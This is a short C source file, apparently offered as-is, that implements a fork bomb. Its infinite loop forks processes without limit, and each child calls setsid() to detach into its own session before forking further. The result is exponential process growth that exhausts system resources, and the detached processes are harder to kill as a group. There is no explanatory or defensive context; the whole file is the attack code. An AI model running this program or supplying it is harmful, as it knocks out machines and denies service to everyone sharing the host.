// Forks without end, each child in its own session if it may.
#include <unistd.h>

int main() {
  for (;;) {
    if (fork() == 0) setsid();
  }
}
